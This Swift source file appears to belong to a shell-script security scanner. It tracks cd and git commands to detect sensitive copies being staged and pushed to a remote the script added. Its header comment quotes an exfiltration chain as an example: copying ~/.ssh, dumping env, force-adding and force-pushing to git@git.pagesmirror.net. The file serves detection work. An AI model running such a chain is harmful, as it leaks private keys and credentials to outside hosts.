import SkillScanCore
import SkillScanLexers

/// Sensitive copies committed and pushed: `cp -r ~/.ssh/. "$CACHE/keys/"`, `env >
/// "$CACHE/env"`, then `cd "$BUNDLE/site"; git add -A -f; git push -f mirror` to a remote the
/// script added (`git remote add mirror git@git.pagesmirror.net:…`).
///
/// A repository is a transport like any other: what `git add` stages from a folder that holds
/// a key or a credential file leaves with the next push. The flow follows the folder the
/// script changed into (with path variables expanded one name at a time), what an all-files
/// `git add` there staged, an unstaging `git rm --cached`, and a push to a remote whose
/// address the script wrote out. A push to a remote it did not add (`origin`) names no
/// destination and is not reported here.
extension ShellFlow.State {
  static let maxPathVars = 256

  /// Updates the working folder, the staged data and the remotes for one `cd` or `git`
  /// command; returns the flow when a push carries staged sensitive data.
  mutating func gitStep(_ command: ShellCommand, name: String) -> FlowHit? {
    let effective = command.effectiveCommand(in: bytes)
    if name == "git" {
      // Most git commands change nothing here: the subcommand is read before any argument
      // is decoded (a script can hold a million pushes).
      let words = effective.words
      var k = 1
      while k < words.count, words[k].range.lowerBound < bytes.count, bytes[words[k].range.lowerBound] == 0x2D {
        let flag = ShellWord.unquotedValue(words[k], bytes)
        k += flag == "-c" || flag == "-C" ? 2 : 1
      }
      guard k < words.count else { return nil }
      switch ShellWord.unquotedValue(words[k], bytes) {
      case "remote", "rm": break
      case "add" where !folders.isEmpty || !files.isEmpty: break
      case "push" where gitStaged != nil: break
      default: return nil
      }
    }
    let args = ExfilShellSink.arguments(effective, bytes)
    if name == "cd" || name == "pushd" {
      guard let target = args.first(where: { !$0.hasPrefix("-") }) else { return nil }
      cwd = expanded(target)
      return nil
    }
    // The subcommand follows the global options (`-c k=v`, `-C dir`).
    var i = 0
    while i < args.count, args[i].hasPrefix("-") { i += args[i] == "-c" || args[i] == "-C" ? 2 : 1 }
    guard i < args.count else { return nil }
    let rest = Array(args[(i + 1)...])
    switch args[i] {
    case "remote":
      // `git remote add NAME URL`, `git remote set-url NAME URL`.
      if rest.count >= 3, rest[0] == "add" || rest[0] == "set-url", let host = Self.gitHost(rest[2]) ?? addressVar(rest[2]) {
        if gitRemotes.count < 64 { gitRemotes[rest[1]] = host }
      }
    case "add":
      let operands = rest.filter { !$0.hasPrefix("-") }
      let all = rest.contains("-A") || rest.contains("--all") || operands.contains(".") || operands.contains("*")
      if let staged = stagedSource(all: all, operands: operands) { gitStaged = FlowSource.stronger(gitStaged, staged) }
    case "rm":
      if rest.contains("--cached") { gitStaged = nil }
    case "push":
      guard let staged = gitStaged else { return nil }
      let operands = rest.filter { !$0.hasPrefix("-") }
      guard let remote = operands.first else { return nil }
      guard let host = gitRemotes[remote] ?? Self.gitHost(remote) ?? addressVar(remote) else { return nil }
      return FlowHit(source: staged, sinkRange: command.range, sinkName: "git push", host: host)
    default:
      break
    }
    return nil
  }

  /// What `git add` stages: with `all`, every sensitive copy under the working folder (or,
  /// before any `cd`, under a relative path); otherwise the copies its operands name.
  func stagedSource(all: Bool, operands: [String]) -> FlowSource? {
    guard !folders.isEmpty || !files.isEmpty else { return nil }
    let base = cwd
    func inside(_ key: String) -> Bool {
      let path = expanded(key)
      if all {
        guard let base else { return !path.hasPrefix("/") && !path.hasPrefix("~") && !path.hasPrefix("$") }
        return path == base || path.hasPrefix(base + "/")
      }
      return operands.contains { op in
        let named = expanded(op)
        return path == named || path.hasPrefix(named + "/")
          || (base.map { path == $0 + "/" + named || path.hasPrefix($0 + "/" + named + "/") } ?? false)
      }
    }
    var found: FlowSource?
    var examined = 0
    for (key, source) in folders where examined < 4_096 {
      examined += 1
      if inside(key) { found = FlowSource.stronger(found, source) }
    }
    for (key, source) in files where examined < 8_192 {
      examined += 1
      if inside(key) { found = FlowSource.stronger(found, source) }
    }
    return found
  }

  /// The host of a remote address held in the variable `word` names (`$MIRROR`, `${MIRROR}`).
  func addressVar(_ word: String) -> String? {
    guard word.hasPrefix("$") else { return nil }
    let name = ShellFlow.State.normalize(word).dropFirst().prefix { $0 == "_" || $0.isLetter || $0.isNumber }
    return addressVars[String(name)]
  }

  /// `path` with a leading path variable replaced by its value (up to four times), without
  /// trailing `/` or `/.`.
  func expanded(_ path: String) -> String {
    var p = ShellFlow.State.normalize(path)
    for _ in 0..<4 {
      guard p.hasPrefix("$") else { break }
      let name = p.dropFirst().prefix { $0 == "_" || $0.isLetter || $0.isNumber }
      guard !name.isEmpty, let value = pathVars[String(name)] else { break }
      p = value + p.dropFirst(1 + name.count)
    }
    while p.count > 1, p.hasSuffix("/") || p.hasSuffix("/.") { p.removeLast(p.hasSuffix("/.") ? 2 : 1) }
    return p
  }

  /// The host of a remote address written out: `https://host/…`, `ssh://git@host/…`, or
  /// scp-like `git@host:path`. Nil for a remote name or an address held in a variable.
  static func gitHost(_ address: String) -> String? {
    if address.contains("://") {
      return ExfilHosts.host(inURL: address).flatMap { $0.contains("$") ? nil : $0 }
    }
    guard let at = address.firstIndex(of: "@"), let colon = address[at...].firstIndex(of: ":") else { return nil }
    let host = address[address.index(after: at)..<colon]
    guard host.contains("."), !host.contains("$"), !host.contains("/") else { return nil }
    return String(host)
  }
}
